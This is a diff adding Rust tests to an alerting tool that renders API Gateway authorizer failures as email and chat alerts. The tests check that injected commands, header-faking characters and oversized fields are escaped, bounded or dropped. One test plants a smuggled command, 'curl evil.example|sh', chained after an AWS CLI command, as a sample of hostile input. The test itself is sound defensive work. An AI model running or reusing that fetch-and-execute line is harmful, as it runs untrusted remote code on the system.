+                    "arn:aws:execute-api:eu-west-1:ACCOUNT_ID:a1b2c3/authorizers/AUTHORIZER_ID",
+                ),
+                (
+                    "api id",
+                    with(&base, |t| t.api_id = Some(bad)),
+                    "eu-west-1",
+                    "arn:aws:execute-api:eu-west-1:123456789012:API_ID/authorizers/AUTHORIZER_ID",
+                ),
+                (
+                    "region",
+                    base.clone(),
+                    bad,
+                    "arn:aws:execute-api:REGION:123456789012:a1b2c3/authorizers/AUTHORIZER_ID --region REGION",
+                ),
+            ];
+            for (what, f, region, want) in cases {
+                let cfg = Config {
+                    region: Some(region.into()),
+                    ..config()
+                };
+                let alert = render(&group(&[f], 5)[0], &cfg);
+                let commands = shown_commands(&alert);
+                assert_eq!(commands.len(), 2, "{what}: {commands:?}");
+                for cmd in &commands {
+                    assert!(cmd.contains(want), "{what} {bad:?}: {cmd}");
+                    assert!(!cmd.contains(good), "{what} {bad:?}: {cmd}");
+                    assert!(
+                        !cmd.contains(bad) && !cmd.contains(&*visible(bad)),
+                        "{what} {bad:?}: {cmd}"
+                    );
+                }
+                if what == "region" {
+                    assert!(!alert.email.contains("https://"), "{}", alert.email);
+                }
+            }
+        }
+    }
+
+    #[test]
+    fn diagnosis_commands_are_shown_only_in_their_shape() {
+        use crate::diagnose::{AuthorizerReport, Check};
+        let mut g = group(&[finding(Cause::MissingInvokePermission, "/g", "r", 1)], 5).remove(0);
+        let planted =
+            "aws lambda add-permission --function-name f; curl evil.example|sh\n```<!channel>";
+        g.diagnosis = Some(Diagnosis::Checked {
+            api_id: "a1b2c3".into(),
+            authorizers: vec![AuthorizerReport {
+                authorizer_id: "abc123".into(),
+                name: "n".into(),
+                routes: vec!["GET /x".into()],
+                function_arn: None,
+                credentials_arn: None,
+                simple_responses: true,
+                payload_format_version: "2.0".into(),
+                checks: vec![Check {
+                    ok: false,
+                    summary: "s".into(),
+                    command: Some(planted.into()),
+                }],
+            }],
+        });
+        let alert = render(&g, &config());
+        assert!(!alert.email.contains("curl evil"), "{}", alert.email);
+        assert!(!alert.chat.contains("curl evil"), "{}", alert.chat);
+        // The remedy's own command stands in.
+        let commands = shown_commands(&alert);
+        assert_eq!(commands.len(), 2, "{commands:?}");
+        assert!(
+            commands
+                .iter()
+                .all(|c| c.contains("--function-name AUTHORIZER_FUNCTION"))
+        );
+    }
+
+    /// Every field of a group, each holding `value`.
+    fn hostile_group(value: &str, cause: Cause) -> Group {
+        let f = with(&finding(cause, value, "r", 1), |t| {
+            t.request_id = Some(value);
+            t.time = Some(value);
+            t.error = value;
+            t.route = Some(value);
+            t.api_id = Some(value);
+            t.stage = Some(value);
+            t.account_id = Some(value);
+        });
+        let mut g = group(&[f], 5).remove(0);
+        g.api_ids.push(value.to_owned());
+        g.diagnosis = Some(Diagnosis::Checked {
+            api_id: value.into(),
+            authorizers: vec![
+                crate::diagnose::AuthorizerReport {
+                    authorizer_id: value.into(),
+                    name: value.into(),
+                    routes: vec![value.into(); 3],
+                    function_arn: Some(value.into()),
+                    credentials_arn: Some(value.into()),
+                    simple_responses: true,
+                    payload_format_version: value.into(),
+                    checks: vec![
+                        crate::diagnose::Check {
+                            ok: false,
+                            summary: value.into(),
+                            command: None,
+                        };
+                        3
+                    ],
+                };
+                3
+            ],
+        });
+        g.suppressed_before = Some(Suppressed {
+            failed_requests: 3,
+            batches: 2,
+            window_start: 1,
+            last_suppressed: 2,
+            sample_request_ids: vec![value.into(); 3],
+        });
+        g
+    }
+
+    /// What no person-facing body may carry raw: every [`crate::escape::is_unsafe`] character
+    /// but the line breaks the body is laid out with.
+    fn assert_shown_safely(alert: &Alert) {
+        use crate::escape::is_unsafe;
+        let raw = |s: &str| s.chars().find(|&c| is_unsafe(c) && c != '\n');
+        assert_eq!(raw(&alert.email), None, "email");
+        let chat: serde_json::Value = serde_json::from_str(&alert.chat).unwrap();
+        let mut texts = vec![
+            chat["content"]["title"].as_str().unwrap().to_owned(),
+            chat["content"]["description"].as_str().unwrap().to_owned(),
+        ];
+        for step in chat["content"]["nextSteps"]
+            .as_array()
+            .into_iter()
+            .flatten()
+        {
+            texts.push(step.as_str().unwrap().to_owned());
+        }
+        for t in &texts {
+            assert_eq!(raw(t), None, "chat: {}", truncate(t, 2000));
+            // The console link is the one piece of markup with `<`.
+            let ours = t.replace("<https://eu-west-1.console.aws.amazon.com/", "");
+            assert!(!ours.contains('<'), "chat: {}", truncate(t, 2000));
+        }
+        // The bodies as sent: no raw character at all, and the machine JSON's too.
+        for (what, body) in [
+            ("message", alert.message()),
+            ("machine", alert.machine.clone()),
+        ] {
+            assert_eq!(body.chars().find(|&c| is_unsafe(c)), None, "{what}");
+        }
+        assert!(alert.subject.bytes().all(|b| (0x20..0x7f).contains(&b)));
+        for (_, v) in alert.attributes.pairs() {
+            assert!(v.bytes().all(|b| (0x20..0x7f).contains(&b)), "{v:?}");
+        }
+    }
+
+    #[test]
+    fn structure_faking_characters_are_escaped_everywhere() {
+        for c in crate::escape::DANGEROUS {
+            let value = format!("ok{c}Subject: fake{c}<!channel>{c}");
+            for lang in [Language::En, Language::Ja] {
+                let cfg = Config {
+                    language: lang,
+                    ..config()
+                };
+                for cause in Cause::ALL {
+                    let alert = render(&hostile_group(&value, cause), &cfg);
+                    assert_shown_safely(&alert);
+                    assert!(
+                        !alert.email.lines().any(|l| l.starts_with("Subject:")),
+                        "U+{:04X}",
+                        c as u32
+                    );
+                    // Programs get the exact text back.
+                    let machine: serde_json::Value = serde_json::from_str(&alert.machine).unwrap();
+                    assert_eq!(machine["errors"][0], value.as_str(), "U+{:04X}", c as u32);
+                }
+                let q = quiet(
+                    Cause::Unknown,
+                    &format!("log:{value}"),
+                    std::slice::from_ref(&value),
+                );
+                let alert = render_recovered(&q, &cfg);
+                assert_shown_safely(&alert);
+                assert!(!alert.email.lines().any(|l| l.starts_with("Subject:")));
+            }
+        }
+    }
+
+    /// SNS's limits, and bodies that are JSON whole.
+    fn assert_publishable(alert: &Alert) {
+        let message = alert.message();
+        assert!(
+            alert.publish_bytes() < MAX_MESSAGE_BYTES,
+            "{} bytes",
+            alert.publish_bytes()
+        );
+        let parsed: serde_json::Value = serde_json::from_str(&message).unwrap();
+        for key in ["default", "email", "https", "sqs", "lambda"] {
+            assert!(parsed[key].is_string(), "{key}");
+        }
+        for body in [&alert.machine, &alert.chat] {
+            serde_json::from_str::<serde_json::Value>(body).unwrap();
+        }
+        for (_, v) in alert.attributes.pairs() {
+            assert!(v.len() <= MAX_ATTRIBUTE_BYTES, "{}", v.len());
+        }
+    }
+
+    #[test]
+    fn every_field_is_bounded() {
+        let big = 300_000;
+        let values = [
+            "x".repeat(big),
+            "\u{1}".repeat(big),
+            "\u{2028}".repeat(big / 3),
+            "&\"\\<".repeat(big / 4),
+            "\u{e0041}".repeat(big / 4),
+        ];
+        for value in &values {
+            let g = hostile_group(value, Cause::MissingInvokePermission);
+            let alert = render(&g, &config());
+            assert_publishable(&alert);
+            assert_subject(&alert.subject, Some(1));
+            // Labels and regions come from configuration, but no path may break the bound.
+            let cfg = Config {
+                label: Some(value.clone()),
+                region: Some(value.clone()),
+                ..config()
+            };
+            let alert = render(&g, &cfg);
+            assert_publishable(&alert);
+            assert_subject(&alert.subject, Some(1));
+            let q = quiet(
+                Cause::Unknown,
+                &format!("log:{value}"),
+                &vec![value.clone(); 1000],
+            );
+            let alert = render_recovered(&q, &cfg);
+            assert_publishable(&alert);
+            assert_subject(&alert.subject, None);
+        }
+    }
+
+    #[test]
+    fn many_distinct_values_are_bounded() {
+        let mut g = hostile_group("v", Cause::Unknown);
+        let many = |n: usize, len: usize| -> Vec<String> {
+            (0..n)
+                .map(|i| format!("{i}{}", "\u{202e}".repeat(len)))
+                .collect()
+        };
+        g.routes = many(5_000, 300);
+        g.errors = many(5_000, 300);
+        g.api_ids = many(5_000, 300);
+        g.stages = many(5_000, 300);
+        g.sample_request_ids = many(10_000, 30);
+        if let Some(Diagnosis::Checked { authorizers, .. }) = &mut g.diagnosis {
+            let a = authorizers[0].clone();
+            *authorizers = vec![a; 1_000];
+            for a in authorizers.iter_mut() {
+                a.routes = many(20, 30);
+            }
+        }
+        g.suppressed_before.as_mut().unwrap().sample_request_ids = many(10_000, 30);
+        let alert = render(&g, &config());
+        assert_publishable(&alert);
+        assert_shown_safely(&alert);
+        let machine: serde_json::Value = serde_json::from_str(&alert.machine).unwrap();
+        assert!(machine["omitted_request_ids"].as_u64().unwrap() > 0);
+    }
+
+    /// Hostile text of up to 300 KB: a short mix of what fakes structure, repeated.
+    fn hostile_text() -> impl proptest::strategy::Strategy<Value = String> {
+        use proptest::strategy::Strategy;
+        (
+            "[\\x00-\\x{a0}\\x{2028}\\x{2029}\\x{202e}\\x{2066}\\x{200b}\\x{feff}\\x{61c}\\x{e0041}\\x{fe0f}<>&`*_~|a-z日]{1,12}",
+            proptest::prop_oneof![0usize..64, 0usize..300_000],
+        )
+            .prop_map(|(piece, len)| {
+                let mut s = piece.repeat(len / piece.len() + 1);
+                while s.len() > len {
+                    s.pop();
+                }
+                s
+            })
+    }
+
+    proptest::proptest! {
+        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(24))]
+        #[test]
+        fn any_hostile_finding_gives_a_publishable_alert(
+            texts in proptest::collection::vec(hostile_text(), 11),
+            count in proptest::prop_oneof![1usize..10, proptest::strategy::Just(usize::MAX)],
+            cause in proptest::sample::select(Cause::ALL.to_vec()),
+        ) {
+            let base = finding(cause, &texts[9], "r", 1);
+            let mut f = with(&base, |t| {
+                t.request_id = Some(&texts[0]);
+                t.time = Some(&texts[1]);
+                t.error = &texts[2];
+                t.route = Some(&texts[3]);
+                t.api_id = Some(&texts[4]);
+                t.stage = Some(&texts[5]);
+                t.source_ip = Some(&texts[6]);
+                t.event_id = Some(&texts[7]);
+                t.account_id = Some(&texts[8]);
+            });
+            f.log_stream = Some(texts[10].as_str().into());
+            let second = with(&f, |t| t.route = Some(&texts[10]));
+            let mut g = group(&[f, second], usize::MAX).remove(0);
+            g.count = count;
+            let cfg = Config { label: Some("L".repeat(40)), ..config() };
+            let alert = render(&g, &cfg);
+            assert_publishable(&alert);
+            assert_subject(&alert.subject, Some(count));
+            assert_shown_safely(&alert);
+        }
     }
 }
